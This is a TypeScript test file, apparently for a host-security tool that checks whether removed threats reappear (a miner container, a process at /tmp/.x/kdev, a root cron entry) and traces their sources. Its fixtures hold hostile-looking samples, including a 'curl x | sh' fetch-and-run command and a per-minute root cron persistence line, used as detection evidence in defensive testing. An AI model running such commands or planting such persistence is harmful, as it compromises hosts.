import { describe, expect, test } from 'vitest';
import { type Snapshot, unread } from '@/lib/model';
import { containerWith } from '@/lib/rules/testing/container';
import { processWith } from '@/lib/rules/testing/process';
import { snapshotWith } from '@/lib/rules/testing/snapshot';
import { lookForReturns } from './respawn';
import { type DoneFix, watchedThings } from './watched-things';

const FIXED_AT = '2026-11-24T03:00:00.000Z';
const LATER = '2026-11-24T03:04:00.000Z';
const EARLIER = '2026-11-24T02:00:00.000Z';

const fix = (target: DoneFix['target'], imageRef: string | null = null): DoneFix => ({
  ...{ target, imageRef, at: FIXED_AT, actionId: 'x' },
});
const CONTAINER = fix(
  { kind: 'container', containerId: 'old', imageId: 'sha256:i', name: 'miner' },
  'heybb/theimg2:latest',
);
const PROCESS = fix({ kind: 'process', pid: 900, startTicks: '1', exe: '/tmp/.x/kdev', comm: 'kdev' });
const CRON = fix({ kind: 'cron', path: '/etc/cron.d/sys', lineNumber: 3, line: '* * * * * root /tmp/.x/kdev' });

type FactsGiven = Parameters<typeof snapshotWith>[0];
const NOTHING: FactsGiven = {
  ...{ containers: [], images: [], processes: [], cronEntries: [], units: [], startupFiles: [], events: [] },
  ...{ sockets: [], authorizedKeys: [] },
};
const look = (
  fixes: readonly DoneFix[],
  facts: FactsGiven,
  { before = null, lost = {} }: { before?: FactsGiven | null; lost?: Partial<Snapshot['facts']> } = {},
) => {
  const snapshot = snapshotWith({ ...NOTHING, ...facts }, LATER);
  return lookForReturns({
    things: watchedThings(fixes, []),
    findings: [],
    snapshot: { ...snapshot, facts: { ...snapshot.facts, ...lost } },
    before: before && snapshotWith({ ...NOTHING, ...before }, EARLIER),
  });
};
const cron = (line: string) => ({
  ...{ path: '/etc/cron.d/sys', lineNumber: 3, line, schedule: '* * * * *', user: 'root', command: line },
  ...{ fileModifiedAt: LATER, packageOwner: null },
});

describe('what comes back', () => {
  const stranger = { id: 'new', name: 'happy_bell', imageRef: 'heybb/theimg2', imageId: 'sha256:other' };

  test('is a new container of the stranger’s image, under whatever name', () => {
    const { returns, unread: notRead } = look([CONTAINER], {
      containers: [containerWith({ ...stranger, createdAt: LATER, startedAt: LATER })],
    });
    expect(returns).toMatchObject([
      { kind: 'container', name: 'miner', as: 'happy_bell', at: LATER, afterMs: 240_000 },
    ]);
    expect(notRead).toEqual([]);
  });

  test.each([
    ['that was there before', { ...stranger, createdAt: EARLIER }],
    ['of another image', { ...stranger, imageRef: 'acme/web', createdAt: LATER }],
    ['that is still paused', { id: 'old', name: 'miner', imageId: 'sha256:i', paused: true }],
  ])('is not one %s', (_what, changes) => {
    expect(look([CONTAINER], { containers: [containerWith(changes)] }).returns).toEqual([]);
  });

  test('is told apart by what the last look saw, when the clock of the host is wrong', () => {
    const one = containerWith({ ...stranger, createdAt: EARLIER, startedAt: EARLIER });
    expect(look([CONTAINER], { containers: [one] }, { before: { containers: [] } }).returns).toMatchObject([
      { as: 'happy_bell', afterMs: 240_000 },
    ]);
    expect(look([CONTAINER], { containers: [one] }, { before: { containers: [one] } }).returns).toEqual([]);
  });

  test('of a system image is one of the same name alone', () => {
    const ours = fix({ kind: 'container', containerId: 'old', imageId: 'i', name: 'job' }, 'alpine:3');
    const alpine = (name: string) => containerWith({ id: 'n', name, imageRef: 'alpine:3', createdAt: LATER });
    const named = { ...alpine('job'), imageId: 'i' };
    expect(look([ours], { containers: [{ ...alpine('other'), imageId: 'i' }] }).returns).toEqual([]);
    expect(look([ours], { containers: [named] }).returns).toHaveLength(1);
  });

  test('is a process of the same program, and not one that has only its system program', () => {
    const again = processWith({ pid: 901, startTicks: '9', exe: '/tmp/.x/kdev', comm: 'kdev', startedAt: LATER });
    expect(look([PROCESS], { processes: [again] }).returns).toMatchObject([{ kind: 'process', as: 'pid 901 kdev' }]);
    const python = fix({ kind: 'process', pid: 1, startTicks: '1', exe: '/usr/bin/python3', comm: 'python3' });
    const other = processWith({ pid: 902, exe: '/usr/bin/python3', comm: 'python3', startedAt: LATER });
    expect(look([python], { processes: [other] }).returns).toEqual([]);
  });

  test('is never called quiet where it could not be read', () => {
    const { returns, unread: notRead } = look(
      [PROCESS, CRON],
      {},
      {
        lost: {
          processes: unread('connection-cannot-see'),
          cronEntries: unread('no-permission', 'sudo -n refused'),
        },
      },
    );
    expect(returns).toEqual([]);
    expect(notRead).toEqual([
      { fact: 'processes', reason: 'this connection cannot see it' },
      {
        fact: 'cronEntries',
        reason: 'this login may not read it (sudo -n refused): sign in as root or allow sudo without a password',
      },
    ]);
  });
});

describe('its source', () => {
  const again = processWith({
    pid: 901,
    ppid: 700,
    startTicks: '9',
    exe: '/tmp/.x/kdev',
    comm: 'kdev',
    startedAt: LATER,
  });

  test('is the cron line that names it, and the chain of its parents', () => {
    const parent = processWith({ pid: 700, ppid: 1, comm: 'sh', argv: ['sh', '-c', 'curl x | sh'] });
    const { returns } = look([PROCESS], {
      processes: [again, parent],
      cronEntries: [cron('* * * * * root /tmp/.x/kdev')],
    });
    expect(returns[0]?.sources).toMatchObject([
      { kind: 'parent', weight: 'says', name: 'pid 700 sh', evidence: 'sh -c curl x | sh' },
      { kind: 'cron', weight: 'names', name: '/etc/cron.d/sys:3', evidence: '* * * * * root /tmp/.x/kdev' },
    ]);
  });

  test('is what the engine says of a container, and who else holds its socket where nobody is named', () => {
    const one = containerWith({
      id: 'new',
      name: 'happy_bell',
      imageRef: 'heybb/theimg2',
      createdAt: LATER,
      labels: {},
    });
    const holder = containerWith({
      name: 'portainer',
      binds: ['/var/run/docker.sock:/var/run/docker.sock'],
      labels: {},
    });
    const created = { at: LATER, type: 'container', action: 'create', actorId: 'new' };
    const { returns } = look([CONTAINER], {
      containers: [one, holder],
      events: [{ ...created, attributes: { image: 'heybb/theimg2', name: 'happy_bell' } }],
    });
    expect(returns[0]?.sources).toMatchObject([
      { kind: 'created', weight: 'says', at: LATER },
      { kind: 'socket', weight: 'possible', name: 'portainer' },
    ]);
  });

  test('that was not found says what was not read', () => {
    const { returns } = look([PROCESS], { processes: [again] }, { lost: { cronEntries: unread('no-permission') } });
    expect(returns[0]).toMatchObject({ sources: [] });
    expect(returns[0]?.unread).toContainEqual({
      fact: 'cronEntries',
      reason: 'this login may not read it: sign in as root or allow sudo without a password',
    });
  });
});
